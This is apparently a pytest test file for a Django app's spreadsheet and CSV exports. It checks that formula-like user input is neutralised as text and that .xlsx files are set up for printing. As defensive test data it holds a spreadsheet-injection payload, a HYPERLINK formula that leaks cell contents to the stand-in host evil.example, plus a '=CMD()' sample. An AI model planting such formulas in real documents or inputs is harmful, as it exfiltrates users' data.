"""No exported cell is ever a formula (csc/exports.py): a value starting with = + - @, a tab or a CR that a person
typed into the product lands in every .xlsx as a text cell and in every CSV behind an apostrophe. And every .xlsx
is ready to read and print: columns sized, the header frozen, A4 landscape fitted to the width, the CJK font, and who
exported it when in the footer."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from csc import exports
from tests.compliance.factories import customer
from tests.downloads import body, csv_rows
from tests.factories import StationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_like_value_is_text_in_both_formats(value):
    sheet = load_workbook(
        io.BytesIO(exports.xlsx_table(title="t", header=["a"], rows=[[value]], exported_by="x"))
    ).active
    cell = sheet["A2"]
    content = exports.csv_response(filename="x.csv", header=["a"], rows=[[value]]).content.decode("utf-8-sig")

    assert cell.data_type == "s"
    # a control character is stored as its OOXML escape (_x000D_), which Excel shows as the character
    assert re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), cell.value) == value
    assert list(csv.reader(io.StringIO(content)))[1] == ["'" + value]


def test_ordinary_values_are_written_as_they_are():
    sheet = load_workbook(
        io.BytesIO(exports.xlsx_table(title="t", header=["a", "b", "c"], rows=[["王建华", 5, -3]], exported_by="x"))
    ).active
    content = exports.csv_response(filename="x.csv", header=["a", "b"], rows=[["王建华", 5]]).content.decode(
        "utf-8-sig"
    )

    assert [c.value for c in sheet[2]] == ["王建华", 5, -3]
    assert list(csv.reader(io.StringIO(content)))[1] == ["王建华", "5"]


def test_the_customer_csv_keeps_company_and_account_number_as_text(client, supervisor):
    customer(account_number="=1+2", company=EVIL, is_corporate=True)
    client.force_login(supervisor)

    response = client.post(reverse("compliance:customer_export"), {"purpose": "季度核对"})

    row = csv_rows(response)[1]
    assert row[-2:] == ["'=1+2", "'" + EVIL]


def test_the_access_log_csv_keeps_a_purpose_as_text(client, compliance_officer, supervisor):
    from compliance.services import access_log_record

    record = customer(account_number="GR77")
    access_log_record(user=supervisor, customers=[record], channel="page", fields=["name"], unmasked=True, purpose=EVIL)
    client.force_login(compliance_officer)

    response = client.get(reverse("compliance:access_log"), {"customer": "GR77", "export": "csv"})

    rows = csv_rows(response)
    assert "'" + EVIL in rows[1]


def test_the_report_xlsx_keeps_a_station_name_as_text(client, supervisor):
    StationFactory(name="=CMD()", code="evil")
    client.force_login(supervisor)

    response = client.get(reverse("reports:daily"), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=CMD()"]
    assert cells and all(cell.data_type == "s" for cell in cells)


def assert_ready_to_print(sheet, *, frozen: str, who: str) -> None:
    """The page csc.exports.sheet_setup gives every .xlsx, read back from the file."""
    assert sheet.freeze_panes == frozen
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
    # fitToWidth left out is 1 (the OOXML default)
    assert (int(sheet.page_setup.fitToWidth or 1), int(sheet.page_setup.fitToHeight)) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    used = range(1, sheet.max_column + 1)
    widths = [sheet.column_dimensions[get_column_letter(column)].width for column in used]
    assert all(exports.MIN_WIDTH <= width <= exports.MAX_WIDTH for width in widths), widths
    assert {cell.font.name for row in sheet.iter_rows() for cell in row if cell.value is not None} == {
        exports.FONT_NAME
    }
    footer = sheet.oddFooter.left.text
    assert who.replace("&", "&&") in footer and f"{timezone.localdate():%Y-%m-%d}" in footer
    assert sheet.oddFooter.right.text == "&P / &N"


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize(
    ("url", "params", "frozen"),
    [
        ("/reports/", {"format": "xlsx"}, "A7"),
        ("/reports/weekly/", {"format": "xlsx"}, "A7"),
        ("/reports/monthly/", {"format": "xlsx"}, "A7"),
        ("/reports/complaints_monthly/", {"format": "xlsx"}, "A2"),
        ("/complaints/", {"export": "xlsx"}, "A2"),
        ("/tickets/", {"export": "xlsx"}, "A2"),
        ("/tickets/exceptions/", {"export": "xlsx"}, "A2"),
        ("/callcenter/calls/", {"export": "xlsx"}, "A2"),
        ("/callcenter/consultations/", {"export": "xlsx"}, "A2"),
        ("/callbacks/", {"export": "xlsx"}, "A2"),
    ],
)
def test_every_xlsx_is_ready_to_read_and_print(url, params, frozen, client, supervisor, station):
    client.force_login(supervisor)

    response = client.get(url, params)

    assert response.status_code == 200
    assert_ready_to_print(_sheet(body(response)), frozen=frozen, who=str(supervisor))


def test_an_archived_report_xlsx_and_its_e_mail_attachment_are_ready_to_print(client, supervisor, station):
    from reports.models import ReportRecipient
    from reports.services import report_email, report_snapshot_create

    snapshot = report_snapshot_create(kind="daily", day=timezone.localdate(), actor=supervisor)
    ReportRecipient.objects.create(kind="daily", email="leader@example.com")
    client.force_login(supervisor)

    download = client.get(reverse("reports:snapshot", args=[snapshot.pk]), {"format": "xlsx"})
    report_email(snapshot_id=snapshot.pk, address="leader@example.com")

    assert_ready_to_print(_sheet(download.content), frozen="A7", who=str(supervisor))
    filename, content, _type = mail.outbox[0].attachments[0]
    assert filename == f"daily-{snapshot.period_start.isoformat()}-v1.xlsx"
    assert_ready_to_print(_sheet(content), frozen="A7", who=gettext("report e-mail"))


def test_the_complaint_list_xlsx_sizes_its_columns_on_the_text_and_repeats_its_header_on_every_page(client, supervisor):

    client.force_login(supervisor)

    sheet = _sheet(body(client.get("/complaints/", {"export": "xlsx"})))

    assert sheet.print_title_rows == "$1:$1"
    assert [cell.font.b for cell in sheet[1]] == [True] * sheet.max_column


def test_column_widths_count_a_chinese_character_as_two():
    assert exports.column_widths([["编号", "Subject"], ["C1", "王建华反映暖气不热"]]) == [6, 20]
    assert exports.column_widths([["x" * 200]]) == [exports.MAX_WIDTH]


def test_a_name_with_an_ampersand_is_not_read_as_a_footer_code():
    sheet = _sheet(exports.xlsx_table(title="t", header=["a"], rows=[["1"]], exported_by="R&D 王"))

    assert "R&&D 王" in sheet.oddFooter.left.text


def test_the_list_sheet_keeps_any_text_as_it_is():
    values = ["<b>&amp;</b>", 'say "hi"', "a\x01b", "_x0041_", "第一行\n第二行", 12.5, 7, True]
    content = exports.xlsx_table(title="a/b:c[d]", header=["x"] * len(values), rows=[values], exported_by="x")
    sheet = _sheet(content)

    def shown(value):  # what a spreadsheet shows for OOXML's _xHHHH_ escapes
        return (
            re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value
        )

    assert [shown(cell.value) for cell in sheet[2]] == values
    assert [cell.data_type for cell in sheet[2]][:5] == ["s"] * 5
    assert sheet.title == "a／b：c（d）"
